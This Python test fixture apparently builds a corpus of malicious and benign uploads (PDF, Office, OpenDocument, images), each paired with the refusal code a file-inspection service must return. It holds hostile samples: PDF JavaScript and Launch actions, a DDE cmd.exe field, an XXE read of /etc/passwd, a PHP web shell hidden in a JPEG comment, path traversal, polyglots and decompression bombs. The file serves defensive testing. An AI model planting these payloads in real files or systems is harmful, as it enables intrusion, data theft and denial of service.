"""A corpus of files, hostile and sound, each with the exact verdict it must get.

Made by the tests, never stored. A verdict is a code of `applications.inspection.refusals`, or
"" for a file that is joined.
"""

import io
import struct
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.applications.sound_files import (
    archive,
    docx,
    image,
    opendocument,
    pdf,
    png_header,
    relation,
    relations,
    xlsx,
)

# Two halves, so that no scanner takes this file for the test virus itself.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
PAGE = b"<html><script>alert(1)</script></html>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def action(kind: str, **more):
    """Put an action of this kind on the opening of a PDF."""

    def change(document):
        document.Root.OpenAction = document.make_indirect(
            Dictionary(S=Name("/" + kind), **{k: String(v) for k, v in more.items()})
        )

    return change


def named_javascript(document):
    """Put code in the names of a PDF."""
    code = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), document.make_indirect(code)]))
    )


def page_launch(document):
    """Hide a program behind a link of the page, as a direct object."""
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
    )
    document.pages[0].obj.Annots = Array([link])


def attached(name: str):
    """Attach a file to a PDF."""

    def change(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, b"<a/>", filename=name)

    return change


def dynamic_form(document):
    """Make a PDF a dynamic (XFA) form."""
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def web_link(document):
    """Put an ordinary link to a site on the page."""
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("https://www.drogues.gouv.fr")),
    )
    document.pages[0].obj.Annots = Array([link])


def object_bomb() -> bytes:
    """A PDF whose object stream unpacks to gigabytes."""
    import zlib

    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 2**24) for _ in range(128)) + packer.flush()
    body = (
        b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
        + b">>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    table = b"".join(
        struct.pack(">BIH", *row) for row in ((0, 0, 0), (1, 9, 0), (2, 1, 0), (1, len(body), 0))
    )
    return (
        body
        + b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 2 0 R/Length "
        + str(len(table)).encode()
        + b">>\nstream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n"
        + str(len(body)).encode()
        + b"\n%%EOF\n"
    )


def locked(data: bytes) -> bytes:
    """Mark every entry of an archive as encrypted."""
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := changed.find(signature, start)) >= 0:
            changed[start + offset] |= 1
            start += 4
    return bytes(changed)


def twice_named() -> bytes:
    """A document with two parts of the same name: readers disagree on which one counts."""
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as file:
        file.writestr("WORD/document.xml", "<a/>")
    return stream.getvalue()


def lying_size() -> bytes:
    """A document that announces a small part and holds a large one."""
    data = bytearray(docx({"word/media/image1.png": b"\0" * 5_000_000}))
    start = data.find(b"PK\x01\x02")
    while start >= 0:
        name = struct.unpack("<H", data[start + 28 : start + 30])[0]
        if b"image1" in data[start + 46 : start + 46 + name]:
            data[start + 24 : start + 28] = struct.pack("<L", 10)
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(data)


BILLION = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
ODF_SCRIPT = (
    '<d xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    '<script:event-listener script:language="ooo:script"/></d>'
)
ODF_LOCK = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
DDE_FIELD = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
TEMPLATE = relation("attachedTemplate", "https://evil.example/t.dotm", "External")
PICTURE_LINK = relation("hyperlink", "https://www.drogues.gouv.fr", "External")

# name sent, bytes, verdict
SOUND = [
    ("rib.pdf", pdf, ""),
    ("RIB.PDF", pdf, ""),
    ("convention avec lien.pdf", lambda: pdf(web_link), ""),
    ("devis facture-x.pdf", lambda: pdf(attached("factur-x.xml")), ""),
    (
        "objets compressés.pdf",
        lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "",
    ),
    ("plan.png", image, ""),
    ("photo.jpg", lambda: image("JPEG"), ""),
    ("photo.jpeg", lambda: image("JPEG", progressive=True), ""),
    ("délibération n° 12.docx", docx, ""),
    ("lien.docx", lambda: docx({"word/_rels/document.xml.rels": relations(PICTURE_LINK)}), ""),
    ("budget.xlsx", xlsx, ""),
    ("courrier.odt", opendocument, ""),
    ("budget.ods", lambda: opendocument("spreadsheet"), ""),
]
TYPES = [
    ("rib.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "type"),
    ("page.html", lambda: PAGE, "type"),
    ("programme.exe", lambda: b"MZ" + b"\0" * 200, "type"),
    (".htaccess", lambda: b"AddType application/x-httpd-php .pdf", "type"),
    ("macro.docm", docx, "type"),
    ("classeur.xlsm", xlsx, "type"),
    ("archive.zip", lambda: archive({"a.txt": "a"}), "type"),
    ("ancien.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "type"),
    ("eicar.com", lambda: EICAR, "type"),
    ("rib.pdf.exe", pdf, "type"),
    ("sans-extension", pdf, "type"),
]
CONTENTS = [
    ("vide.pdf", lambda: b"", "empty"),
    ("eicar.pdf", lambda: EICAR, "mismatch"),
    ("page.pdf", lambda: PAGE, "mismatch"),
    ("programme.pdf", lambda: b"MZ" + b"\0" * 400, "mismatch"),
    ("image.pdf", image, "mismatch"),
    ("pdf.png", pdf, "mismatch"),
    ("png.jpg", image, "mismatch"),
    ("gif.png", lambda: image("GIF"), "mismatch"),
    ("svg.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "mismatch"),
    ("texte.docx", lambda: b"Bonjour", "mismatch"),
    ("archive.docx", lambda: archive({"a.txt": "a"}), "mismatch"),
    ("classeur.docx", xlsx, "mismatch"),
    ("tableur.odt", lambda: opendocument("spreadsheet"), "mismatch"),
    ("jar.xlsx", lambda: archive({"META-INF/MANIFEST.MF": "Main-Class: A"}), "mismatch"),
]
DAMAGED = [
    ("tronqué.pdf", lambda: pdf()[:200], "damaged"),
    ("sans page.pdf", lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF", "damaged"),
    ("tronquée.png", lambda: image(size=(400, 300))[:-300], "damaged"),
    ("tronquée.jpg", lambda: image("JPEG", size=(400, 300))[:1500], "damaged"),
    ("tronqué.docx", lambda: docx()[:-40], "damaged"),
    ("mal formé.docx", lambda: docx({"word/document.xml": "<w:document"}), "damaged"),
    ("octet changé.xlsx", lambda: xlsx().replace(b"PK\x03\x04", b"PK\x03\x05", 1), "polyglot"),
]
ACTIVE = [
    ("code à l'ouverture.pdf", lambda: pdf(action("JavaScript", JS="app.alert(1)")), "active"),
    ("code nommé.pdf", lambda: pdf(named_javascript), "active"),
    ("lanceur.pdf", lambda: pdf(page_launch), "active"),
    ("envoi.pdf", lambda: pdf(action("SubmitForm", F="https://evil.example")), "active"),
    ("joint.pdf", lambda: pdf(attached("facture.exe")), "active"),
    ("dynamique.pdf", lambda: pdf(dynamic_form), "active"),
    ("macro.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    ("macro déguisée.docx", lambda: docx(main=MACRO_TYPE), "macros"),
    ("macro Excel 4.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    ("dde.xlsx", lambda: xlsx({"xl/externalLinks/e1.xml": "<a><ddeLink/></a>"}), "macros"),
    ("dde.docx", lambda: docx(body=DDE_FIELD), "macros"),
    ("basic.odt", lambda: opendocument(more={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    ("évènement.ods", lambda: opendocument("spreadsheet", {"styles.xml": ODF_SCRIPT}), "macros"),
    ("modèle distant.docx", lambda: docx({"word/_rels/s.rels": relations(TEMPLATE)}), "external"),
    ("objet.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0"}), "nested"),
    ("activex.xlsx", lambda: xlsx({"xl/activeX/activeX1.xml": "<a/>"}), "nested"),
    ("programme.odt", lambda: opendocument(more={"Pictures/a.exe": b"MZ"}), "nested"),
]
LOCKED = [
    ("mot de passe.pdf", lambda: pdf(encryption=pikepdf.Encryption("a", "b")), "encrypted"),
    ("verrou.pdf", lambda: pdf(encryption=pikepdf.Encryption("a", "")), "encrypted"),
    ("mot de passe.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    ("zip verrouillé.docx", lambda: locked(docx()), "encrypted"),
    ("mot de passe.odt", lambda: opendocument(manifest=ODF_LOCK), "encrypted"),
]
POLYGLOTS = [
    ("page devant.pdf", lambda: PAGE + b"\n" + pdf(), "polyglot"),
    (
        "page dedans.pdf",
        lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "polyglot",
    ),
    ("page derrière.pdf", lambda: pdf() + PAGE, "polyglot"),
    ("archive derrière.pdf", lambda: pdf() + archive({"a.class": b"\xca\xfe"}), "polyglot"),
    ("archive derrière.png", lambda: image() + archive({"a": "a"}), "polyglot"),
    ("page derrière.png", lambda: image() + PAGE, "polyglot"),
    ("pdf derrière.jpg", lambda: image("JPEG") + pdf(), "polyglot"),
    (
        "php en commentaire.jpg",
        lambda: image("JPEG", comment=b"<?php system($_GET[0]);"),
        "polyglot",
    ),
    ("archive précédée.docx", lambda: b"PK\x03\x04" + b"\0" * 60 + docx(), "polyglot"),
    ("suite.docx", lambda: docx() + PAGE, "polyglot"),
    ("noms doubles.docx", twice_named, "polyglot"),
    ("chemin.docx", lambda: docx({"../../etc/cron.d/x": "a"}), "polyglot"),
    ("entités.docx", lambda: docx({"word/settings.xml": BILLION}), "polyglot"),
    ("entité externe.xlsx", lambda: xlsx({"xl/styles.xml": OUTSIDE}), "polyglot"),
]
BOMBS = [
    ("pixels.png", lambda: png_header(50_000, 50_000), "pixels"),
    ("bombe.docx", lambda: docx({"word/bomb.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}), "heavy"),
    ("dix mille.xlsx", lambda: xlsx({f"xl/p{n}.xml": "<a/>" for n in range(2_100)}), "heavy"),
    ("taille menteuse.docx", lying_size, "damaged"),
    ("objets.pdf", object_bomb, "damaged"),
]


CORPUS = SOUND + TYPES + CONTENTS + DAMAGED + ACTIVE + LOCKED + POLYGLOTS + BOMBS
